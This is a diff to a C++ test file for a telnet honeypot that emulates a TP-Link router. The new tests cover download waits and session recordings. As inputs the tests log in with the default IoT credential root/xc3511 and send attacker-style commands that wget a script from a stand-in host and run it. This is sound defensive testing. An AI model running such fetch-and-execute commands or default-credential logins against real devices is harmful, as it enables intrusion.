@@ -2,6 +2,7 @@
 // socket client, events through the Collector.
 
 #include <chrono>
+#include <filesystem>
 #include <thread>
 
 #include <arpa/inet.h>
@@ -10,6 +11,7 @@
 #include <sys/socket.h>
 #include <unistd.h>
 
+#include "honeypot/session/cast_reader.h"
 #include "honeypot/telnet/telnet_service.h"
 #include "support/base64_decode.h"
 #include "support/recording_collector.h"
@@ -59,16 +61,16 @@ private:
 
 class TelnetServiceTest : public ::testing::Test {
 protected:
+    TelnetServiceTest() { options_.failure_delay = std::chrono::milliseconds(300); }
+
     void SetUp() override {
         auto persona =
             shell::Persona::load(std::string(KANSOKU_SOURCE_DIR) + "/rules/personas/tplink-wr841n-mips.toml");
         ASSERT_TRUE(persona) << persona.error().message;
         auto policy =
             std::make_shared<const telnet::AcceptListedPolicy>(std::vector<telnet::Credential>{{"root", "xc3511"}});
-        telnet::TelnetServiceOptions options;
-        options.failure_delay = std::chrono::milliseconds(300);
         service_ = std::make_unique<telnet::TelnetService>(
-            collector_, std::make_shared<const shell::Persona>(std::move(*persona)), policy, options);
+            collector_, std::make_shared<const shell::Persona>(std::move(*persona)), policy, options_);
         server::ServerConfig config;
         config.service = "telnet";
         server_ = std::make_unique<server::SessionServer>(io_, config, service_->factory(), sink_);
@@ -88,6 +90,7 @@ protected:
         }
     }
 
+    telnet::TelnetServiceOptions options_;
     asio::io_context io_;
     testing::RecordingCollector collector_;
     CollectingSink sink_;
@@ -202,6 +205,92 @@ TEST_F(TelnetServiceTest, AttemptsCountAcrossConnectionsOfASource) {
     }
     stop(); // every session has closed (by the client or by the stop), so both were counted
     EXPECT_EQ(service_->attempts().prior("127.0.0.1"), 2u);
+}
+
+/// Downloads that the shell waits for, and the session's recording (issue 17 items 1 and 3).
+class TelnetWaitTest : public TelnetServiceTest {
+protected:
+    TelnetWaitTest() {
+        std::filesystem::create_directories(casts_);
+        options_.cast.dir = casts_.string();
+        options_.download_wait = std::chrono::seconds(5);
+        collector_.serve("http://192.0.2.9/x.sh", "echo fetched-and-run\n");
+    }
+    ~TelnetWaitTest() override { std::filesystem::remove_all(casts_); }
+
+    std::string login(Client& client) {
+        client.readUntil("login: ");
+        client.send("root\r\n");
+        client.readUntil("Password: ");
+        client.send("xc3511\r\n");
+        return client.readUntil("# ");
+    }
+
+    std::filesystem::path casts_ =
+        std::filesystem::temp_directory_path() / ("kansoku-casts-" + std::to_string(::getpid()) + "-" +
+                                                  ::testing::UnitTest::GetInstance()->current_test_info()->name());
+};
+
+TEST_F(TelnetWaitTest, WgetReturnsWithTheFetchedFileAndTypedAheadLinesRunAfter) {
+    {
+        Client client(server_->localPort());
+        login(client);
+        client.send("cd /tmp; wget http://192.0.2.9/x.sh -O x.sh; sh x.sh\r\necho typed-ahead\r\n");
+        std::this_thread::sleep_for(std::chrono::milliseconds(200)); // the line waits for its fetch
+        asio::post(io_, [this] { EXPECT_EQ(collector_.completeFetches(), 1u); });
+        // The echo of the typed-ahead line comes at once; its output ("# " then "typed-ahead") only
+        // after the waiting line has run.
+        const std::string out = client.readUntil("# typed-ahead\r\n");
+        const size_t ran = out.find("fetched-and-run\r\n");
+        ASSERT_NE(ran, std::string::npos) << out; // `sh x.sh` right after wget ran the fetched bytes
+        EXPECT_LT(ran, out.rfind("# typed-ahead\r\n")) << out;
+        client.send("exit\r\n");
+        client.readUntil("never");
+    }
+    stop();
+    EXPECT_EQ(service_->shellCounters().download_waits, 1u);
+    EXPECT_EQ(service_->shellCounters().download_wait_timeouts, 0u);
+    EXPECT_EQ(collector_.downloads().size(), 1u);
+    // Recorded: one cast, output and input, the fetched script's output in it.
+    EXPECT_EQ(service_->castCounters().casts, 1u);
+    const auto sessions = collector_.ofType("honeypot.connect");
+    ASSERT_EQ(sessions.size(), 1u);
+    const std::string id = sessions[0].fields.value("session", "");
+    auto cast = readCast((casts_ / (id + ".cast")).string());
+    ASSERT_TRUE(cast.has_value()) << cast.error().message;
+    std::string shown;
+    bool typed = false;
+    for (const auto& event : cast->events) {
+        if (event.kind == 'o') {
+            shown += event.data;
+        }
+        typed = typed || (event.kind == 'i' && event.data.find("xc3511") != std::string::npos);
+    }
+    EXPECT_TRUE(typed);
+    EXPECT_NE(shown.find("TL-WR841N login: "), std::string::npos) << shown;
+    EXPECT_NE(shown.find("fetched-and-run\r\n"), std::string::npos) << shown;
+    EXPECT_EQ(shown.find('\xff'), std::string::npos) << "no telnet negotiation in the recording";
+}
+
+class TelnetShortWaitTest : public TelnetWaitTest {
+protected:
+    TelnetShortWaitTest() { options_.download_wait = std::chrono::milliseconds(300); }
+};
+
+TEST_F(TelnetShortWaitTest, AFetchThatDoesNotEndInTimeLeavesAnEmptyFileAndIsCounted) {
+    {
+        Client client(server_->localPort());
+        login(client);
+        const auto start = std::chrono::steady_clock::now();
+        client.send("cd /tmp; wget http://192.0.2.9/slow -O s; ls -l s\r\n");
+        const std::string out = client.readUntil("# ");
+        EXPECT_GE(std::chrono::steady_clock::now() - start, std::chrono::milliseconds(250));
+        EXPECT_NE(out.find(" 0 "), std::string::npos) << out; // the placeholder, empty
+        client.send("exit\r\n");
+        client.readUntil("never");
+    }
+    stop();
+    EXPECT_EQ(service_->shellCounters().download_wait_timeouts, 1u);
 }
 
 } // namespace
